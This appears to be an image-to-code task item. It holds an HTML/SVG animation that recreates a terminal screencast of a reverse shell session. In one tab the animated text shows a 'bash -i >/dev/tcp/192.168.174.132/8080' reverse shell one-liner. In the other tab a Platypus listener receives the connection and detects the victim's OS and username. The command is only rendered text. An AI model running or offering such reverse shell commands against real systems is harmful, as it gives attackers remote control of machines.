
Recreate the animation shown at these times as an HTML page. Size 865x647 px, loop 8.74 s.

```html
<!DOCTYPE html>
<html lang="zh">
<head>
<meta charset="utf-8">
<title>Reverse shell session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #242424; }
svg { display: block; width: 865px; height: 647px; }
text { white-space: pre; text-rendering: geometricPrecision; font-family: 'Open Sans', 'Noto Sans CJK SC', 'Noto Sans CJK JP', sans-serif; }
.mono { font-family: 'DejaVu Sans Mono', monospace; }
</style>
</head>
<body>
<svg id="stage" viewBox="0 0 865 647"></svg>
<script>
const LOOP = 8740;
const stage = document.getElementById('stage');
const USER = 'dolvari', HOST = 'yefi';

const BLUE = '#0078d7', TAB = '#0086e0', BAR = '#e4e4e4';
const RED = '#c40000', LOG = '#1e90ff', WHITE = '#f2f2f2', CYAN = '#00a3b4';

// frame numbers at 15 per second
const FOCUS = 13, ENTER = 21, PROMPT = 23, SWITCH = 65, DETECT = 91;
const PRESS = 95, RELEASE = 106, BLUR = 129;

const esc = s => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const rect = (x, y, w, h, fill, more = '') =>
  `<rect x="${x}" y="${y}" width="${w}" height="${h}" fill="${fill}" ${more}/>`;
const line = (d, color, w = 1, fill = 'none') =>
  `<path d="${d}" fill="${fill}" stroke="${color}" stroke-width="${w}"/>`;
const shape = (d, fill) => `<path d="${d}" fill="${fill}"/>`;
const dot = (x, y, r, fill) => `<circle cx="${x}" cy="${y}" r="${r}" fill="${fill}"/>`;
const label = (x, y, size, s, fill = '#000', more = '') =>
  `<text x="${x}" y="${y}" font-size="${size}" fill="${fill}" ${more}>${esc(s)}</text>`;

// A row is a list of [color, text, bold] runs.
const row = (y, size, runs, ink) => `<text class="mono" x="4" y="${y}" font-size="${size}">` +
  runs.map(([c, s, b]) =>
    `<tspan fill="${ink || c}"${b ? ' font-weight="700"' : ''}>${esc(s)}</tspan>`).join('') + '</text>';

const ADVANCE = 1233 / 2048;
const BIG = 17.03, BIG_W = BIG * ADVANCE, BIG_H = 21;
const bigRows = [
  [['#7272ff', '# ', 1], ['#0fa8d4', USER], ['#c0c0c0', ' @ '], ['#0f8f0f', USER],
   ['#e4e4e4', ' in '], ['#c4b02c', '~', 1], ['#dedede', ' [4:23:19]']],
  [['#d7a37d', '$ ', 1], ['#0f8f0f', 'bash'], ['#f0f0f0', ' -c '],
   ['#a39b00', '"bash -i >/dev/tcp/192.168.174.132/8080 0>&1"']],
  [['#1ac87c', `${USER}@${USER}`, 1], ['#eee', ':'], ['#7474d8', '~', 1], ['#eee', '$ ']]
];

const SM = 12.55, SM_W = SM * ADVANCE, SM_H = 15.65, SM_TOP = 83.2, SM_BASE = 95.2;
const ID = '[61b0462faed76ef6446f97204b555b8a]';
const stamp = (sec, s, c = LOG) => [[c, `2020/05/23 00:23:${sec} ${s}`]];
const plain = s => [[WHITE, s]];
const shell = s => [[CYAN, '» '], [WHITE, s]];
const logRows = [
  [['#ff5252', `${HOST}@${HOST}`, 1], [WHITE, ':'], ['#5cb6ff', '~/Platypus', 1], [WHITE, '$ go run platypus.go']],
  stamp('06', 'Signal installed', RED),
  shell('Run'),
  stamp('08', 'Arguments error, use `Help Run` to get more information', RED),
  plain('Usage of Run'),
  plain('        Run [HOST] [PORT]'),
  plain('        HOST    THe host you want to listen on'),
  plain('        PORT    THe port you want to listen on'),
  shell('Run 0.0.0.0 8080'),
  stamp('12', 'Server running at: [bae04f79766edc833305eb1578d6e028] 0.0.0.0:8080 (0 online clients) (star'),
  [[LOG, 'ted at: now)']],
  stamp('27', 'Not requesting for service', RED),
  stamp('27', `New client ${ID} tcp://192.168.174.128:42038 (connected at: 3`),
  [[LOG, 'seconds ago) [Unknown] [false] Connected']],
  stamp('27', 'Gathering information from client...')
];
const foundRows = [
  stamp('29', `${ID} OS detected: Linux`),
  stamp('29', `${ID} User detected: ${USER}`)
];

const linear = u => u;
const smooth = u => u * u * (3 - 2 * u);
const out = u => 1 - (1 - u) * (1 - u);
// pointer stops: frame, x, y, easing towards the stop
const stops = [
  [4, 862, 222], [10, 670, 298, out], [46, 670, 298], [60, 34, 78, smooth], [70, 34, 78],
  [78, 267, 320, smooth], [88, 267, 320], [94, 421, 311, smooth], [PRESS, 421, 311],
  [100, 282, 276, out], [102, 264, 265], [105, 254, 249], [RELEASE, 254, 249],
  [111, 447, 318], [116, 696, 293], [121, 874, 228]
];

function pointer(n) {
  const i = stops.findIndex(s => s[0] > n);
  if (i < 1) return null;
  const [a, x, y] = stops[i - 1], [b, x2, y2, ease = linear] = stops[i];
  const u = ease((n - a) / (b - a));
  return [x + (x2 - x) * u, y + (y2 - y) * u];
}

function drawPointer(n) {
  const p = pointer(n);
  if (!p) return '';
  const [x, y] = p.map(Math.round);
  const beam = 'M-5-9H-1.5L0-8 1.5-9H5M0-8V8M-5 9H-1.5L0 8 1.5 9H5';
  const body = y < 81
    ? line('M0 0V17L4 13.4 6.8 19.6 9.6 18.4 6.9 12.2H12Z', '#222', 0.8, '#fff')
    : line(beam, '#000', 3) + line(beam, '#fff', 1.7);
  return `<g transform="translate(${x} ${y})">${body}</g>`;
}

function selection(n) {
  if (n <= PRESS || n >= RELEASE) return '';
  const [x, y] = pointer(n - 1);
  const head = Math.floor((y - SM_TOP) / SM_H), last = 14;
  const left = 4 + Math.round((x - 4) / SM_W) * SM_W;
  const end = 4 + 55 * SM_W, edge = 4 + 111 * SM_W;
  let d = '';
  for (let r = head; r <= last; r++) {
    let a = r === head ? left : 4, b = r === last ? end : edge;
    if (a > b) [a, b] = [b, a];
    d += `M${a} ${SM_TOP + r * SM_H}H${b}v${SM_H}H${a}Z`;
  }
  const ink = logRows.map((r, i) => i < head ? '' : row(SM_BASE + i * SM_H, SM, r, '#000')).join('');
  return shape(d, LOG) + `<clipPath id="sel"><path d="${d}"/></clipPath><g clip-path="url(#sel)">${ink}</g>`;
}

function bigTerm(n, live) {
  const count = n < PROMPT ? 2 : 3;
  const [col, r] = n < ENTER ? [55, 0] : [n < PROMPT ? 0 : 19, 1];
  return rect(1, 81, 845, 545, '#242424') +
    bigRows.slice(0, count).map((x, i) => row(121 + i * BIG_H, BIG, x)).join('') +
    rect(3.7 + col * BIG_W, 125.5 + r * BIG_H, 1.8, 21, live ? '#0fc828' : '#0aa428');
}

function logTerm(n, live) {
  const rows = n < DETECT ? logRows : logRows.concat(foundRows);
  const y = SM_TOP + rows.length * SM_H;
  return rect(1, 81, 845, 545, '#000') +
    rows.concat([shell('')]).map((r, i) => row(SM_BASE + i * SM_H, SM, r)).join('') +
    (live ? rect(19, y, 7.5, 15, '#0f0') : rect(19.5, y + 0.5, 7, 14, 'none', 'stroke="#00b400"')) +
    selection(n);
}

function titleBar(second, live) {
  const fg = live ? '#fff' : '#999';
  const name = second ? `Yefi - ${HOST}@${HOST}: ~/Platypus` : `Ubuntu 18.04 - ${USER}@${USER}: ~`;
  return rect(0, 0, 865, 31.5, live ? BLUE : '#fff') + dot(17, 15.5, 7.5, '#e2361f') +
    label(28, 20.6, 13.5, `${name} - Zelnir 6 (Free for Home/School)`, fg) +
    line('M734 16H745M783.5 11.5H793.5V20.5H783.5ZM833.5 11L843.5 21M843.5 11L833.5 21', fg);
}

function menuBar() {
  const items = [[7, '文件(F)'], [57, '编辑(E)'], [106, '查看(V)'], [157, '工具(T)'],
    [208, '选项卡(B)'], [271, '窗口(W)'], [327, '帮助(H)']];
  return items.map(([x, s]) => label(x, 49.3, 13.2, s)).join('');
}

function tab(x, w, num, name, on, bold, alert) {
  const fg = on ? '#fff' : '#000', heavy = on && bold;
  const tx = x + (heavy ? 17 : 19.5), cx = x + w - 10;
  const mark = alert
    ? dot(x + 12, 70, 6, '#0c7cd5') + rect(x + 11.2, 66, 1.6, 5, '#fff') + rect(x + 11.2, 72.3, 1.6, 1.7, '#fff')
    : dot(x + (heavy ? 9 : 11), 70, 3.5, on ? '#08963c' : '#00a800');
  return rect(x, 59, w, 21, on ? TAB : '#fff') + mark +
    `<text x="${tx}" y="74.7" font-size="12.4" fill="${fg}" font-weight="${heavy ? 700 : 400}">` +
    `<tspan text-decoration="underline">${num}</tspan> ${name}</text>` +
    line(`M${cx - 2.5} 67l5 5m0-5l-5 5`, on ? '#cfe6fa' : '#b4b4b4', 0.9);
}

function tabBar(second, bold) {
  return tab(1, 79, 1, 'Yefi', second, bold) +
    tab(80.5, 139.5, 2, 'Ubuntu 18.04', !second, bold, second) +
    rect(220.5, 59.5, 16, 20, '#f4f4f4', 'stroke="#c4c4c4"') +
    line('M225 69.5H232M228.5 66V73', '#444') +
    line('M80.5 59V80', '#c8c8c8', second ? 0.8 : 0) +
    shape('M826 66V72L822.5 69ZM836 66V72L839.5 69Z', '#bdbdbd') +
    shape('M852.5 68H858.5L855.5 71Z', '#000') + rect(0, 80, 865, 1, BLUE);
}

function scrollBar(second) {
  return rect(845.5, 81, 19, 545, '#f0f0f0') +
    (second ? rect(846.5, 589, 17, 18, '#cdcdcd') : rect(846.5, 531, 17, 76, '#cdcdcd')) +
    line('M852 93L855 90 858 93M852 615L855 618 858 615', '#505050', 1.4);
}

function statusBar(n, second) {
  const pos = second ? (n < DETECT ? '16,3' : '18,3')
    : n < ENTER ? '3,56' : n < PROMPT ? '4,1' : '4,20';
  const dx = second ? -10 : 0;
  const say = (x, s, c) => label(x, 640.6, 11.55, s, c);
  const arrow = (x, s, c) =>
    line(`M${x} ${636 - 4 * s}V${636 + 4 * s}M${x - 3} ${636 - s}L${x} ${636 - 4 * s} ${x + 3} ${636 - s}`, c, 1.6);
  let grip = '';
  for (let i = 0; i < 3; i++)
    for (let j = 0; j <= i; j++) grip += rect(859 - j * 4, 635 + i * 4, 2, 2, '#b4b4b4');
  const sent = n >= ENTER && n < PROMPT, got = n >= PROMPT;
  return rect(0, 626, 865, 21, BAR) +
    say(4, second ? `ssh://${HOST}@192.168.174.132:22` : `ssh://${USER}@192.168.174.128:22`) +
    rect(443 + dx, 632, 7, 7.5, '#f0b45a') + rect(444.5 + dx, 633, 4, 2, '#fbe6c4') +
    say(454 + dx, 'SSH2') + say(515 + dx, 'xterm') +
    line(`M${568 + dx} 639V632.5M${566 + dx} 634l2-2 2 2M${570 + dx} 633h3M${572 + dx} 632v3`, '#555', 0.9) +
    say(577.5 + dx, second ? '111x34' : '81x25') +
    line('M639 632.5H642M639 634.5H642M639 636.5H642M639 639H642M643.5 639H646.5', '#555', 1) +
    say(650.5, pos) + say(704, '2 会话') +
    arrow(760, 1, sent ? '#2383dc' : '#a4a4a4') + arrow(775, -1, got ? '#2383dc' : '#a4a4a4') +
    say(791.5, 'CAP', '#999') + say(818, 'NUM') + rect(845.5, 627, 19, 19, BAR) + grip;
}

function draw(n) {
  const second = n >= SWITCH;
  const live = n >= FOCUS && n < BLUR;
  stage.innerHTML = rect(0, 0, 865, 647, BAR) +
    titleBar(second, live) + menuBar() + tabBar(second, live) +
    (second ? logTerm(n, live) : bigTerm(n, live)) +
    scrollBar(second) + statusBar(n, second) +
    rect(0.5, 0.5, 864, 646, 'none', `stroke="${live ? BLUE : '#1a82d8'}"`) +
    drawPointer(n);
}

function frameAt(t) {
  const n = Math.floor((t + 3.4) * 0.015);
  return Math.round(n * 20 / 3) * 10 > t ? n - 1 : n;
}

const start = performance.now();
let shown = -1;
function tick() {
  const n = Math.min(130, frameAt((performance.now() - start) % LOOP));
  if (n !== shown) draw(shown = n);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
